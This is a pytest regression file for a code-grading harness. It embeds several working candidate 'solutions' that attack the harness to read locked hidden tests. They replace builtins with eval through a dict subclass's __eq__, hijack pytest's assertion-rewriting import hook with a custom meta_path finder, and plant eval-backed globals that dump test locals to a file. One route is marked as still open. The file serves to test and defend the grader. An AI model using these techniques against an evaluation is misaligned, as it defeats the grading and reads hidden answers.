"""The twenty-fifth attacker review's routes against own_builtins and
imported_by_tests: a builtins dict subclass whose __eq__ ran inside the
check, a finder that made the tests' own import statement run a locked
module into the candidate's module, and pytest's collection taking the
candidate's spec and module (globals with len = eval). Each asserts the
secret did not leak; the three failed before fresh_module and the
identity check. A module global shadowing a builtin during the test's
call stays open (docs/SECURITY.md): strict xfail."""
import json

import pytest

from test_assay_audit import run

LAST = '''import solution


def test_zzzz_last():
    assert solution.dump() == 1
'''

DUMPER = r'''
import json, os, sys, types, builtins
HERE = os.getcwd()
OUT = {}


def dump():
    with open(os.path.join(HERE, "leak.json"), "w") as fh:
        json.dump(OUT, fh, indent=1, default=repr)
    return 1
'''


def outcomes(r):
    return {k: v[0] for k, v in r.outcomes().items()} if r.junit else r.output[-3000:]


def leaked(tmp_path):
    p = tmp_path / "work" / "leak.json"
    return p.read_text() if p.exists() else ""


# A. own_builtins reads d["__builtins__"] and compares it with `in`, which
#    calls the candidate's dict subclass's __eq__ *before* it lists the
#    module's values: that __eq__ takes the test functions and classes
#    (defined with the candidate's builtins) out of the module's dict and
#    leaves a PEP 562 __getattr__ that puts them back when pytest's
#    collection asks for setUpModule. The tests then run with the
#    candidate's builtins: sorted is eval, locals() leak.
BUILTINS_HIDDEN = """import solution


def test_sorted():
    secret = 6060
    assert sorted(solution.items(secret)) == [1, 2]


class TestGroup:
    def test_method(self):
        hidden_local = 7070
        assert sorted(solution.items(hidden_local)) == [1, 2]
"""

EQ_SOL = DUMPER + r'''
SINK = []


class Payload(str):
    pass


def items(x):
    return Payload("__import__('solution').SINK.append(repr(locals())) or [1, 2]")


class Evil(dict):
    __hash__ = dict.__hash__

    def __eq__(self, other):
        if other is builtins.__dict__ or other is builtins:
            for m in list(sys.modules.values()):
                d = getattr(m, "__dict__", None)
                if isinstance(d, dict) and d.get("__builtins__") is self:
                    stash = {}
                    for k, v in list(d.items()):
                        if (type(v) is types.FunctionType and k.startswith("test")) or \
                                (isinstance(v, type) and k.startswith("Test")):
                            stash[k] = d.pop(k)

                    def __getattr__(name, d=d, stash=stash):
                        # pytest's collection asks for setUpModule first
                        d.pop("__getattr__", None)
                        d.update(stash)
                        raise AttributeError(name)
                    d["__getattr__"] = __getattr__
            return True
        return dict.__eq__(self, other)


for _k, _m in list(sys.modules.items()):
    if "zhidden" in _k:
        _m.__dict__["__builtins__"] = Evil(builtins.__dict__, sorted=eval)


def dump():
    OUT["sink"] = SINK
    with open(os.path.join(HERE, "leak.json"), "w") as fh:
        json.dump(OUT, fh, indent=1, default=repr)
    return 1
'''


def test_own_builtins_eq_and_staticmethod(tmp_path):
    r = run(tmp_path, solution=EQ_SOL, files={"tests/test_zhidden.py": BUILTINS_HIDDEN, "tests/test_zzzz.py": LAST},
            lock=["tests/test_zhidden.py"])
    text = leaked(tmp_path)
    assert "6060" not in text and "7070" not in text, ("LEAKED", outcomes(r), r.seen, text[:1500])


# B. imported_by_tests: the tests' own `from solution import add` (with the
#    solution a package whose `add` is missing at that moment) makes
#    importlib's _handle_fromlist import "solution.add"; the candidate's
#    sys.meta_path finder answers with a spec whose origin is the locked
#    hidden module and whose loader is pytest's own hook, with
#    create_module set to hand back a module the candidate made. The hook
#    runs the hidden module's code into it.
FINDER_HIDDEN = """from solution import add

SECRET = "the secret 4242"


def test_hidden():
    assert add(40, 2) == 42 and SECRET
"""

FINDER_SOL = DUMPER + r'''
import importlib.util
__path__ = []
MINE = types.ModuleType("solution.add")
MINE.__dict__["planted"] = "by the candidate"
_seen = []


def _add(a, b):
    return a + b


def __getattr__(name):
    if name == "add":
        if not _seen:
            _seen.append(1)
            raise AttributeError(name)
        return _add
    raise AttributeError(name)


class _Mod(types.ModuleType):
    def __setattr__(self, k, v):
        if k == "add":
            return
        types.ModuleType.__setattr__(self, k, v)


sys.modules[__name__].__class__ = _Mod
_hook = next(h for h in sys.meta_path if type(h).__name__ == "AssertionRewritingHook")


class Finder:
    @staticmethod
    def find_spec(name, path=None, target=None):
        if name == "solution.add":
            target = os.path.join(HERE, "tests", "test_zhidden.py")
            def _cm(spec):
                del _hook.create_module
                return MINE
            _hook.create_module = _cm
            return importlib.util.spec_from_loader(name, _hook, origin=target)
        return None


sys.meta_path.insert(0, Finder)


def dump():
    OUT["mine"] = {k: repr(v) for k, v in MINE.__dict__.items() if not k.startswith("__")}
    OUT["spec"] = repr(getattr(MINE, "__spec__", None))
    with open(os.path.join(HERE, "leak.json"), "w") as fh:
        json.dump(OUT, fh, indent=1, default=repr)
    return 1
'''


def test_imported_by_tests_candidate_finder(tmp_path):
    r = run(tmp_path, solution=FINDER_SOL, files={"tests/test_zhidden.py": FINDER_HIDDEN, "tests/test_zzzz.py": LAST},
            lock=["tests/test_zhidden.py"])
    text = leaked(tmp_path)
    assert "4242" not in text and "test_hidden" not in text, ("RAN INTO CANDIDATE'S MODULE", outcomes(r), r.seen, text[:1500])


# C. pytest 7.2's import_path (--import-mode=importlib) asks every
#    sys.meta_path finder for the test module's spec: the candidate's
#    finder hands back pytest's own hook as loader (create_module set on
#    the instance) and the collection checks accept it: the hidden module
#    runs into a module object the candidate made beforehand, with
#    globals it planted (a `len` that is eval gives the test's locals).
COLLECT_HIDDEN = """import solution


def test_len():
    secret = 5151
    assert len(solution.items(secret)) == 2
"""

COLLECT_SOL = DUMPER + r'''
import importlib.util
SINK = []
MINE = {}


class Payload(str):
    pass


def items(x):
    return Payload("__import__('solution').SINK.append(repr(locals())) or 2")


_hook = next(h for h in sys.meta_path if type(h).__name__ == "AssertionRewritingHook")


class Finder:
    @staticmethod
    def find_spec(name, path=None, target=None):
        if name.endswith("test_zzzz_hidden"):
            target = os.path.join(HERE, "tests", "test_zzzz_hidden.py")
            m = types.ModuleType(name)
            m.__dict__["len"] = eval
            MINE["m"] = m
            def _cm(spec):
                del _hook.create_module
                return m
            _hook.create_module = _cm
            return importlib.util.spec_from_loader(name, _hook, origin=target)
        return None


sys.meta_path.insert(0, Finder)


def dump():
    OUT["sink"] = SINK
    m = MINE.get("m")
    OUT["mine"] = sorted(m.__dict__) if m else None
    OUT["same"] = m is not None and any(v is m for v in sys.modules.values())
    with open(os.path.join(HERE, "leak.json"), "w") as fh:
        json.dump(OUT, fh, indent=1, default=repr)
    return 1
'''


def test_collection_takes_candidates_spec_and_module(tmp_path):
    r = run(tmp_path, solution=COLLECT_SOL, tests="import solution\n\n\ndef test_v():\n    assert solution.dump() == 1\n", files={"tests/test_zzzz_hidden.py": COLLECT_HIDDEN,
                                                   "tests/test_zzzzz.py": LAST},
            lock=["tests/test_zzzz_hidden.py"])
    text = leaked(tmp_path)
    assert "5151" not in text and "test_len" not in text, ("LEAKED", outcomes(r), r.seen, text[:1500])


# D. Plain module globals shadowing a builtin, set by the candidate during
#    the test's call to it, restored by the payload: same power as the
#    builtins route the hook now refuses at import.
GLOBALS_SOL = DUMPER + r'''
SINK = []


class Payload(str):
    pass


def items(x):
    m = next(m for k, m in list(sys.modules.items()) if "zhidden" in k)
    m.__dict__["len"] = eval
    return Payload("__import__('solution').SINK.append(repr(locals())) or globals().pop('len') and 2")


def dump():
    OUT["sink"] = SINK
    with open(os.path.join(HERE, "leak.json"), "w") as fh:
        json.dump(OUT, fh, indent=1, default=repr)
    return 1
'''


@pytest.mark.xfail(strict=True, reason="open: the candidate writes a hidden module's globals (SECURITY.md)")
def test_module_global_shadows_builtin(tmp_path):
    r = run(tmp_path, solution=GLOBALS_SOL, files={"tests/test_zhidden.py": COLLECT_HIDDEN, "tests/test_zzzz.py": LAST},
            lock=["tests/test_zhidden.py"])
    text = leaked(tmp_path)
    assert "5151" not in text, ("LEAKED", outcomes(r), r.seen, text[:1500])
